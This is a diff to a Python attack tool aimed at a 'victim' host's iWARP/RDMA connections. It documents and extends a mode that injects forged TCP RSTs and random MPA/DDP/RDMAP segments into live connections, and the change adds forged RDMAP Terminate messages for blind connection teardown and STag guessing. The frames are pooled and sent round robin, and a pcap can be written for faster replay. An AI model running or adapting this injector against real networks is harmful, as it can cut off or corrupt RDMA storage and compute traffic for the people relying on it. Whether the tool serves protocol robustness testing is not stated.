@@ -15,8 +15,9 @@ KIND:
            with a valid header and garbage after it.
   guess    segments on the victim's live connections (learnt from its own frames): RSTs
            with random sequence numbers, and ACK segments carrying random "FPDUs" (random
-           MPA length, DDP/RDMAP header with random STags and offsets) at random sequence
-           numbers: RFC 5961's blind attacks and STag guessing without knowing the stream.
+           MPA length; WRITEs with random STags and offsets, Sends, and Terminates with a
+           random control field) at random sequence numbers: RFC 5961's blind attacks and
+           STag guessing without knowing the stream.
 Frames are built in pools of 4096 and sent round robin (the pool of `guess` is rebuilt
 every second from the connections seen). With --pcap, the pool (N frames, default 65536)
 is written to a pcap file once the victim is learnt, for a faster sender to replay
@@ -123,13 +124,19 @@ def junk_pool(rng, v, subnet, n=POOL):
 
 
 def fpdu(rng):
-    """An MPA FPDU with a DDP/RDMAP header of random STag and offset (Tagged, RDMA Write)
-    or an untagged Send, random payload, no valid CRC."""
+    """An MPA FPDU with a DDP/RDMAP header of random STag and offset (Tagged, RDMA Write),
+    an untagged Send, or a Terminate (RDMAP opcode 0x7 on queue 2, RFC 5040 section 7.2.6,
+    with a random Terminate control field), random payload, no valid CRC."""
     payload = os.urandom(rng.randrange(0, 64))
-    if rng.random() < 0.5:
+    kind = rng.random()
+    if kind < 0.4:
         ddp = struct.pack("!BBIQ", 0x80 | 0x40 | 0x01, 0x40, rng.getrandbits(32), rng.getrandbits(64))
-    else:
+    elif kind < 0.8:
         ddp = struct.pack("!BBIIII", 0x40 | 0x01, 0x43, 0, 0, rng.getrandbits(32), 0)
+    else:
+        # Untagged, Last; RDMAP version 1, opcode Terminate; QN 2, MSN random, MO 0; then
+        # the Terminate control field (layer, type, code, flags) at random.
+        ddp = struct.pack("!BBIIIII", 0x40 | 0x01, 0x47, 0, 2, rng.getrandbits(32), 0, rng.getrandbits(32))
     ulpdu = ddp + payload
     pad = (-(2 + len(ulpdu))) % 4
     return struct.pack("!H", len(ulpdu)) + ulpdu + b"\0" * pad + os.urandom(4)
